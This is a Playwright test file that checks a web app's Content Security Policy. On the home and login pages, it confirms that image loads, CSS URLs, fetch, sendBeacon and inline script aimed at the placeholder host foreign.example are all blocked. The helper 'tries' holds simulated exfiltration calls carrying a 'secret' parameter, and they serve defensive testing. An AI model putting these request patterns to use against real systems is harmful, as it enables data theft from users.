import type { Page } from '@playwright/test';
import { expect, test } from './fixtures';
import { ShellHost } from './support/shell-host';

const foreignOrigin = 'https://foreign.example';

/** What an injected script could try, and the directive that blocks each. */
const tries = (page: Page) =>
  page.evaluate(async (host) => {
    // Both the header and the page's policy block it.
    const blocked = new Set<string>();
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      blocked.add(`${effectiveDirective} ${blockedURI}`);
    });
    new Image().src = `${host}/image?secret=1`;
    document.body.style.backgroundImage = `url(${host}/style?secret=1)`;
    await fetch(`${host}/request?secret=1`).catch(() => undefined);
    navigator.sendBeacon(`${host}/beacon?secret=1`);
    document.body.append(Object.assign(document.createElement('script'), { textContent: 'void 0' }));
    while (blocked.size < 5) await new Promise((resolve) => requestAnimationFrame(resolve));
    return [...blocked].map((text) => text.replace(/\?.*/, '')).sort();
  }, foreignOrigin);

const refused = [
  `connect-src ${foreignOrigin}/beacon`,
  `connect-src ${foreignOrigin}/request`,
  `img-src ${foreignOrigin}/image`,
  `img-src ${foreignOrigin}/style`,
  'script-src-elem inline',
];

/** Console errors about it. */
const log = [/foreign\.example/, /security policy: /i, /Content Security Policy/i];

for (const { path, ready } of [
  { path: '/', ready: (page: Page) => page.getByRole('heading', { level: 1 }) },
  { path: '/login', ready: (page: Page) => page.getByRole('button', { name: 'Login' }) },
]) {
  test(`[B3] ${path} sends nothing to a host that is not allowed`, { tag: ['@csp', '@network'] }, async ({
    page,
    pageErrors,
  }) => {
    pageErrors.allow(...log);
    await page.goto(path);
    expect(await tries(page)).toEqual(refused);
  });

  test(`[B3] nor on a host that sends no headers: the page ${path} contains the policy, and works under it`, {
    tag: ['@csp', '@network'],
  }, async ({ page, pageErrors }) => {
    const host = new ShellHost('silent');
    const url = await host.start();
    pageErrors.allow(new RegExp(`request to a foreign host: ${url}`));
    try {
      const answer = await page.goto(`${url}${path.slice(1)}`);
      expect(answer?.headers()['content-security-policy']).toBeUndefined();
      await expect(ready(page)).toBeVisible();
      expect(pageErrors.unexpected()).toEqual([]);
      pageErrors.allow(...log);
      expect(await tries(page)).toEqual(refused);
    } finally {
      await host.remove();
    }
  });
}
